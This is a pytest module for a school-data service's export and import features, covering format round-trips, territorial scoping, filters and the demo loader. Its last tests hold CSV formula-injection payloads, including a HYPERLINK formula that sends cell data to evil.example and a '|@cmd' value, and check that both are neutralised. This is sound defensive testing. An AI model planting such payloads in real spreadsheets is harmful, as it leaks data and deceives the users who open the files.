"""Exports in the canonical import columns: scoped, in JSON/CSV/XLSX, and each re-imports unchanged."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from services.identification.demo.generator import COLUMNS
from services.identification.demo.loader import load_demo_region
from services.identification.tabular import to_csv
from tests.conftest import DEMO_SCHOOLS, Stack
from tests.identification.import_support import API, batches, export, export_rows, post_rows, upload


@pytest.mark.parametrize(
    "kind", ["results", "social", "risk_profile", "vpr_objectivity", "schools", "settlements", "municipalities"]
)
@pytest.mark.parametrize("file_format", ["csv", "xlsx", "json"])
def test_an_export_reimports_unchanged(stack: Stack, kind: str, file_format: str) -> None:
    total = batches(stack, "admin")["total"]
    answer = export(stack, kind, format=file_format)
    if file_format == "json":
        body = answer.json()
        assert body["columns"] == list(COLUMNS[kind]) and body["total"] == len(body["rows"]) > 0
        imported = post_rows(stack, kind, body)
    else:
        imported = upload(stack, kind, f"{kind}.{file_format}", answer.content)
    assert imported.status_code == 200, imported.text
    report = imported.json()
    assert report["status"] == "unchanged" and report["errors"] == []
    assert report["created"] == report["updated"] == 0 and report["unchanged"] == report["rows_total"] > 0
    assert batches(stack, "admin")["total"] == total


def test_csv_is_utf8_with_bom_semicolons_and_canonical_headers(stack: Stack) -> None:
    answer = export(stack, "results", format="csv", school_year="2023/24", procedure="огэ")
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    lines = answer.content.decode("utf-8-sig").splitlines()
    assert lines[0] == ";".join(COLUMNS["results"])
    assert len(lines) > 1 and all(";2023-2024;ОГЭ;9;" in line for line in lines[1:])


def test_xlsx_has_one_sheet_with_canonical_headers(stack: Stack) -> None:
    answer = export(stack, "social", format="xlsx")
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    assert [c.value for c in sheet[1]] == list(COLUMNS["social"])
    assert isinstance(sheet["A2"].value, str) and isinstance(sheet["C2"].value, int)


def test_exports_are_scoped_to_the_callers_territory(stack: Stack) -> None:
    region = {r["school_code"] for r in export_rows(stack, "results")}
    municipality = {r["school_code"] for r in export_rows(stack, "results", user="municipal_coordinator")}
    school = {r["school_code"] for r in export_rows(stack, "results", user="school_staff")}
    assert region > municipality > school == {stack.territory["school"]["code"]}
    coordinator_schools = export_rows(stack, "schools", user="municipal_coordinator")
    assert {s["municipality_code"] for s in coordinator_schools} == {stack.territory["municipality"]["code"]}
    assert len(export_rows(stack, "municipalities", user="municipal_coordinator")) == 1


def test_results_page_and_filters(stack: Stack) -> None:
    school = stack.territory["school"]["code"]
    params = {"school_code": school, "subject": "Русский язык", "per_page": 5}
    answer = stack.gateway.get(f"{API}/results", params=params, headers=stack.auth("observer"))
    assert answer.status_code == 200, answer.text
    page = answer.json()
    assert page["total"] > 5 and len(page["items"]) == 5 and page["per_page"] == 5
    assert {(r["school_code"], r["subject"]) for r in page["items"]} == {(school, "russian")}
    grade = stack.gateway.get(f"{API}/results", params={"grade": 9, "format": "csv"}, headers=stack.auth("admin"))
    assert grade.status_code == 200 and all(";9;" in line for line in grade.text.splitlines()[1:])
    unknown = stack.gateway.get(f"{API}/exports/grades", headers=stack.auth("admin"))
    assert unknown.status_code == 404 and unknown.json()["code"] == "unknown_import_kind"
    bad_format = stack.gateway.get(f"{API}/results", params={"format": "pdf"}, headers=stack.auth("admin"))
    assert bad_format.status_code == 422


def test_risk_factor_catalogue(stack: Stack) -> None:
    answer = stack.gateway.get(f"{API}/risk-factors", headers=stack.auth("observer"))
    assert answer.status_code == 200
    factors = answer.json()
    assert len(factors) >= 10 and factors[1]["name"] == "Дефицит педагогических кадров"
    assert factors[0]["valid_from"] == "2020-2021"


def test_the_demo_loader_filled_every_indicator(stack: Stack) -> None:
    for kind in ("results", "vpr_objectivity", "social", "staffing", "olympiad", "risk_profile"):
        assert export(stack, kind, per_page=1).json()["total"] > 0, kind
    demo = batches(stack, "admin", per_page=100)["items"]
    assert {b["file_name"] for b in demo} == {"Демонстрационные данные"}


def test_loading_the_demo_again_changes_nothing(stack: Stack) -> None:
    before = batches(stack, "admin")["total"]
    results = export(stack, "results", format="csv").content
    load_demo_region(stack.settings, DEMO_SCHOOLS, 7)
    assert batches(stack, "admin")["total"] == before
    assert export(stack, "results", format="csv").content == results


def test_csv_cells_that_would_run_as_formulas_are_neutralised() -> None:
    frame = pd.DataFrame(
        {"school_code": ['=HYPERLINK("http://x")', "+7", "@SUM(A1)", "\tx", "-x", "обычный"], "n": [-5, 3, 0, 1, 2, 4]}
    )
    lines = to_csv(frame).decode("utf-8-sig").splitlines()
    assert lines[1:] == [
        '"\'=HYPERLINK(""http://x"")";-5',
        "'+7;3",
        "'@SUM(A1);0",
        "'\tx;1",
        "'-x;2",
        "обычный;4",
    ]


def test_a_hostile_school_name_is_exported_inert_and_reimports_unchanged(stack: Stack) -> None:
    """Runs last in this module: it renames a school."""
    schools = export_rows(stack, "schools", user="admin")
    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")'
    renamed = {**schools[0], "short_name": hostile, "aliases": "-1+1|@cmd"}
    answer = post_rows(stack, "schools", {"rows": [renamed], "source": "test"}, user="admin")
    assert answer.status_code == 200, answer.text
    content = export(stack, "schools", user="admin", format="csv").content
    text = content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "'-1+1|@cmd" in text
    for line in text.splitlines():
        for cell in line.split(";"):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), cell
    again = upload(stack, "schools", "schools.csv", content, user="admin")
    assert again.status_code == 200 and again.json()["status"] == "unchanged", again.text
    row = next(r for r in export_rows(stack, "schools", user="admin") if r["school_code"] == schools[0]["school_code"])
    assert row["short_name"] == hostile
